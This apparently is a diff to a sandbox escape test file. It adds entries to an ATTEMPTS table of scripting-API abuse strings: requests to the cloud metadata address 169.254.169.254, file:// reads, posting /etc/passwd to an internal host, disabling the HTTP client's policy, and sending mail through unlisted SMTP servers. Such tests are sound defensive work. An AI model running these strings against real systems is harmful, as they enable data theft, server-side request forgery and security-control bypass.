@@ -169,6 +169,16 @@ ATTEMPTS = {
     "tag_export_outside_files": "system.tag.exportTags('{m}', ['[default]'])",
     "tag_import_host_file": "system.tag.importTags('/etc/passwd', '')",
     "math_function_globals": "system.math.mean.__globals__['builtins']",
+    # issue #19: the network and what system.net hands out
+    "http_unlisted_host": "system.net.httpGet('http://169.254.169.254/latest/meta-data/')",
+    "http_file_scheme": "system.net.httpGet('file://{m}')",
+    "http_post_unlisted": "system.net.httpPost('http://10.0.0.1/', {{'a': 1}})",
+    "httpclient_httpx_client": "getattr(system.net.httpClient(), '_client').get('http://10.0.0.1/')",
+    "httpclient_policy_write": "c = system.net.httpClient()\nc._policy = None",
+    "httpclient_file_outside": "system.net.httpClient().post('http://10.0.0.1/', file='/etc/passwd')",
+    "httpclient_class_write": "c = system.net.httpClient()\ntype(c).get = lambda *a: None",
+    "smtp_unlisted_server": "system.net.sendEmail('smtp.example.com:587', 'a@b.c', 's', 'b', 0, ['x@y.z'])",
+    "smtp_profile_unknown": "system.net.sendEmail(smtpProfile='Default', fromAddr='a@b.c', to=['x@y.z'])",
 }
 
 
